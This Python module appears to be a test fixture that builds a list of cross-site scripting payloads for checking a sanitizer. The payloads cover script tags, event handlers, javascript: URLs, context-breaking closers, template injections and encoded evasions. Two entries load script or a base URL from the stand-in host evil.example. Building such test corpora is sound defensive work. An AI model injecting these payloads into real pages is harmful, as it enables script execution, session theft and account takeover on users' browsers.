"""Texts that try to become a script: as tags, attributes, addresses, closers, and encodings.

Each calls ``hit(N)``; a page on which it runs has ``window.hit`` called, and a document in
which it is live holds the call outside of plain text.
"""

from __future__ import annotations

_TAGS = (
    "<script>hit()</script>", "<SCRIPT>hit()</SCRIPT>", "<script src=//evil.example/x.js></script>",
    "<script type=module>hit()</script>", "<script\t>hit()</script\t>", "<scr<script>ipt>hit()",
    "<svg><script>hit()</script></svg>", "<svg><script href=data:,hit()></script></svg>",
    "<math><script>hit()</script></math>", "<noscript><script>hit()</script></noscript>",
)  # fmt: skip
_EVENTS = tuple(
    f"<{tag} {event}=hit()>"
    for tag, event in (
        ("img src=x", "onerror"), ("img/src=x", "onerror"), ("IMG SRC=x", "OnErRoR"),
        ("svg", "onload"), ("svg/onload=hit()//", "x"), ("body", "onload"), ("body", "onpageshow"),
        ("video src=x", "onerror"), ("audio src=x", "onerror"), ("video><source", "onerror"),
        ("input autofocus", "onfocus"), ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"), ("details open", "ontoggle"), ("marquee", "onstart"),
        ("object data=x", "onerror"), ("iframe src=x", "onload"), ("div", "onmouseover"),
        ("a href=x", "onclick"), ("p tabindex=1", "onfocusin"), ("style", "onload"),
        ("link rel=stylesheet href=x", "onerror"), ("form", "onsubmit"), ("b", "onpointerenter"),
        ("div style=animation-name:x", "onanimationstart"), ("x", "onwheel"),
        ("dialog open", "onclose"), ("button popovertarget=x", "onbeforetoggle"),
        ("svg><animate", "onbegin"), ("svg><set", "onend"), ("meter", "oncopy"),
        ("u", "onauxclick"),
    )
)  # fmt: skip
_ADDRESSES = tuple(
    shape.format(url)
    for url in (
        "javascript:hit()", "JaVaScRiPt:hit()", "java\tscript:hit()", "&#106;avascript:hit()",
        "javascript&colon;hit()", " javascript:hit()", "data:text/html,<script>hit()</script>",
        "vbscript:hit()",
    )
    for shape in ("{}", "<a href='{}'>x</a>", "<iframe src=\"{}\"></iframe>", "[x]({})")
)  # fmt: skip
_CLOSERS = tuple(
    f"{closer}<img src=x onerror=hit()>"
    for closer in (
        '"',
        "'",
        "`",
        ">",
        '">',
        "'>",
        "-->",
        "--!>",
        "]]>",
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
        "</SCRIPT >",
        "</option></select>",
        "</svg>",
        "</text>",
        "</desc>",
        "</td>",
        "</template>",
        "</noscript>",
        "</xmp>",
        "<!--",
        "<![CDATA[",
        "<?xml ?>",
        "\\u003c/script>",
        "\n\n",
        "{{",
        "${",
        "|",
    )
)
_QUOTES = (
    '" onfocus=hit() autofocus x="', "' onfocus=hit() autofocus x='", "` onfocus=hit() x=`",
    '" onmouseover="hit()', "x onerror=hit()", '"}]}\';hit();//', "'-hit()-'", '"-hit()-"',
    "\\';hit();//", "\\\" onload=hit() \\\"", '","do":"x","x":"', "{{constructor('hit()')()}}",
    "${hit()}", "#{hit()}", "<%= hit() %>", "{% hit() %}",
)  # fmt: skip
_CODED = (
    "&lt;script&gt;hit()&lt;/script&gt;", "&#60;img src=x onerror=hit()&#62;",
    "%3Cscript%3Ehit()%3C/script%3E", "\\x3cscript\\x3ehit()\\x3c/script\\x3e",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e", "<\u200bscript>hit()</script>",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-", "<img src=x onerror=\u2028hit()>",
    "<img src=x one\u0131rror=hit()>", "\ufeff<script>hit()</script>",
)  # fmt: skip
_OTHER = (
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<style>*{background:url(javascript:hit())}</style>", "<style>@import 'data:,hit()'</style>",
    "<embed src=javascript:hit()>", "<object data=javascript:hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'>", "<form action=javascript:hit()><button>",
    "<button formaction=javascript:hit()>", "<svg><use href=data:image/svg+xml,hit()></svg>",
    "<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>",
    "<svg><foreignObject><body onload=hit()></foreignObject></svg>",
    "<math href=javascript:hit()>x</math>", "<template shadowrootmode=open><script>hit()</script>",
    "![x](x\" onerror=\"hit())", "[x]: javascript:hit()", "<javascript:hit()>",
    '=HYPERLINK("javascript:hit()")', "<div data-do=undo data-args={}>hit()</div>",
    "<b data-chart=x><script>hit()</script></b>", "<dialog data-modal>hit()</dialog>",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(
    text.replace("hit()", f"hit({number})")
    for number, text in enumerate(
        (*_TAGS, *_EVENTS, *_ADDRESSES, *_CLOSERS, *_QUOTES, *_CODED, *_OTHER)
    )
)
